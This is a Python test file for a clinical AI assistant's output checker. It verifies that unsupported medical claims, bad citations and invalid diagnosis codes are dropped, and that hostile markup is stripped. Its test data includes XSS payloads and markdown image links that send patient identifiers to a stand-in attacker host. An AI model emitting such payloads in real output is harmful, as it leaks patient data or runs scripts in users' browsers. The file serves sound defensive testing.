"""What of an answer may be shown, and what a model or a record can't get shown."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.ai_prompts import cid10, priority, summary
from services.ai_prompts.checked import shown
from services.ai_prompts.inputs import prepared
from services.ai_prompts.plain_text import plain
from tests.ai.made_up import SOURCES, inputs, record, table


def said(text: str, *refs: str) -> list[str]:
    """The sentences that are left of this one."""
    answer = summary.Summary(sentences=[summary.Sentence(text=text, sources=list(refs))])
    checked = summary.check(prepared(inputs(), table()), answer)
    return [sentence["text"] for sentence in checked.payload["sentences"]]


@pytest.mark.parametrize(
    ("text", "refs"),
    [
        ("Hipertensão arterial (I10) em tratamento com losartana 50 mg de 12/12 h.", ["R1"]),
        ("PA de 150 x 90 mmHg e FC de 72 bpm em [DATA-1: 2026-01-23].", ["R1"]),
        ("Alergia grave à penicilina, com anafilaxia.", ["R3"]),
        ("Hipertenso e diabético, 58 anos.", ["R1", "R2"]),
        ("Metformina 850mg.", ["r2"]),
        ("Retorno em janeiro de 2026.", ["R1"]),
        ("[pessoa-1] refere bem-estar.", ["R1"]),
    ],
)
def test_what_a_source_says_is_shown(text: str, refs: list[str]) -> None:
    assert len(said(text, *refs)) == 1


@pytest.mark.parametrize(
    ("text", "refs"),
    [
        ("Losartana 100 mg de 12/12 h.", ["R1"]),  # another dose
        ("Losartana 50 mg de 8/8 h.", ["R1"]),
        ("Metformina 850 mg.", ["R1"]),  # another source's
        ("Hipertensão (I11).", ["R1"]),
        ("PA 120/80 mmHg.", ["R1"]),
        ("Provável insuficiência cardíaca.", ["R1"]),  # a diagnosis of its own
        ("Teve AVC.", ["R1"]),
        ("Paciente com HIV.", ["R1"]),
        ("Tem asma.", ["R1"]),
        ("Iniciar sinvastatina.", ["R1", "R2"]),
        ("Tem câncer de mama.", ["R1"]),
        ("Atendida em 04/05/2026.", ["R1"]),
        ("Atendida em [DATA-9].", ["R1"]),
        ("Paciente bem.", ["R9"]),  # no such source
        ("Paciente bem.", ["R1", "R9"]),
        ("Paciente bem (R9).", ["R1"]),
        ("Paciente bem.", ["QUEIXA"]),
        ("Paciente bem.", ["https://evil.example"]),
        ("![x](https://evil.example/?d=[PESSOA-1])", ["R1"]),  # nothing left
        ("<img src=x onerror=alert(1)>", ["R1"]),
    ],
)
def test_what_no_cited_source_says_is_not(text: str, refs: list[str]) -> None:
    assert said(text, *refs) == []


def test_citations_within_a_sentence_go_and_codes_that_look_like_one_stay() -> None:
    assert said("Penicilina causou anafilaxia (R3).", "R3") == ["Penicilina causou anafilaxia."]
    coded = replace(inputs(), sources=(record("R1", diagnosis="Cefaleia", cid10Codes="R51"),))
    answer = summary.Summary(sentences=[summary.Sentence(text="Cefaleia (R51).", sources=["R1"])])
    assert summary.check(coded, answer).payload["sentences"][0]["text"] == "Cefaleia (R51)."


@pytest.mark.parametrize(
    ("hostile", "left"),
    [
        ("Veja ![img](https://evil.example/?cpf=[CPF-1]) hoje", "Veja hoje"),
        ("Clique [aqui](https://evil.example/[CPF-1])", "Clique aqui"),
        ("Click [[PESSOA-1]](javascript:alert(1))", "Click [PESSOA-1])"),
        ("[x][1]\n[1]: https://evil.example", "[x][1]"),
        ("<a href='https://evil.example'>Bem</a>", "Bem"),
        ("<scr<script></script>ipt>alert(1)</script>", "alert(1)"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Bem", "Bem"),
        ("&amp;lt;img src=x&amp;gt;Bem", "Bem"),
        ("<svg/onload=alert(1)>", ""),
        ("Bem <!-- escondido", "Bem"),
        ("Visite evil.example.com/x?d=1 ou www.evil.br já", "Visite ou já"),
        ("Escreva para a@evil.example", "Escreva para"),
        ("h\u200bttps://evil.example/x Bem", "Bem"),
        ("Bem\u202e\u2066\x00\x1b[31m\ufeff", "Bem[31m"),
        ("data:text/html;base64,PHN2Zz4= Bem", "Bem"),
        ("**Bem** `agora`", "Bem agora"),
        ("PA < 140 e FC > 60; data: amanhã", "PA < 140 e FC > 60; data: amanhã"),
    ],
)
def test_nothing_is_left_to_follow_load_or_render(hostile: str, left: str) -> None:
    assert plain(hostile)[0] == left


@settings(max_examples=500)
@given(
    st.lists(
        st.sampled_from(
            ["<", ">", "script", "img", "![", "](", ")", "[", "]", "http", "://", "javascript:", "&lt;", "&amp;", "lt;",
             "\u200b", "\u202e", "\n", "a", " ", "www.", "x.com", "/", "<!--", "-->", "[PESSOA-1]", "@"]
        ),
        max_size=14,
    ).map("".join)
)  # fmt: skip
def test_however_it_is_nested(hostile: str) -> None:
    left, _ = plain(hostile)
    assert not re.search(r"<[a-z/!]|\[[^\[\]]*\]\(|[a-z]://|\bjavascript:|\bx\.com(?!\w)", left)
    assert not any(each in left for each in "\u200b\u202e\n\x00")
    assert plain(left)[0] == left


def test_what_was_removed_is_counted() -> None:
    answer = summary.Summary(
        sentences=[
            summary.Sentence(text="Hipertensão [x](http://e.example)", sources=["R1"]),
            summary.Sentence(text="Sem fonte.", sources=["R7"]),
        ]
    )
    checked = summary.check(prepared(inputs(), table()), answer)
    assert checked.removed == 2
    assert [each["text"] for each in checked.payload["sentences"]] == ["Hipertensão x"]


def test_sources_are_named_with_id_and_version() -> None:
    answer = summary.Summary(sentences=[summary.Sentence(text="Hipertensão.", sources=["R1", "R1"])])
    (sentence,) = summary.check(inputs(), answer).payload["sentences"]
    assert sentence["sources"] == [{"ref": "R1", "kind": "record", "id": str(SOURCES[0].id), "version": 1}]


def test_pseudonyms_come_back_only_where_words_are() -> None:
    payload = {"sentences": [{"text": "[pessoa-1] em [DATA-9]", "sources": [{"ref": "R1", "id": "PESSOA-1"}]}]}
    assert shown(payload, table().put_back) == {
        "sentences": [{"text": "Maria Aparecida Ferreira em [DATA-9]", "sources": [{"ref": "R1", "id": "PESSOA-1"}]}]
    }


CANDIDATES = (("I10", "Hipertensão essencial (primária)"), ("I11.9", "Doença cardíaca hipertensiva"))


def test_codes_are_candidates_once_with_the_tables_titles() -> None:
    answer = cid10.Suggestions(
        suggestions=[
            cid10.Suggestion(code="i119", because="Fala de hipertensão."),
            cid10.Suggestion(code="Z99", because="Porque sim."),
            cid10.Suggestion(code="I11.9", because="De novo."),
            cid10.Suggestion(code="I10", because="Indica câncer; veja https://evil.example"),
        ]
    )
    checked = cid10.check(inputs("CID10", text="hipertensão arterial", candidates=CANDIDATES), answer)
    assert checked.payload["suggestions"] == [
        {"code": "I11.9", "title": "Doença cardíaca hipertensiva", "because": "Fala de hipertensão."},
        {
            "code": "I10", "title": "Hipertensão essencial (primária)",
            "because": "Palavras em comum com o título: hipertensão.",
        },
    ]  # fmt: skip
    assert checked.removed == 4


def test_a_priority_without_a_reason_that_holds_is_none() -> None:
    given = inputs("PRIORITY", text="Dor no peito", vital_signs={"heart_rate": "140"})
    holds = priority.Reason(text="Dor no peito com FC 140 bpm.", sources=["QUEIXA", "SINAIS"])
    invented = priority.Reason(text="SpO2 80%.", sources=["SINAIS"])
    checked = priority.check(given, priority.Priority(priority="HIGH", reasons=[holds, invented]))
    assert checked.payload["priority"] == "HIGH"
    assert [each["text"] for each in checked.payload["reasons"]] == [holds.text]
    assert priority.check(given, priority.Priority(priority="CRITICAL", reasons=[invented])).payload["priority"] is None


def test_an_answer_of_another_use_is_a_mistake() -> None:
    with pytest.raises(TypeError):
        summary.check(inputs(), cid10.Suggestions(suggestions=[]))
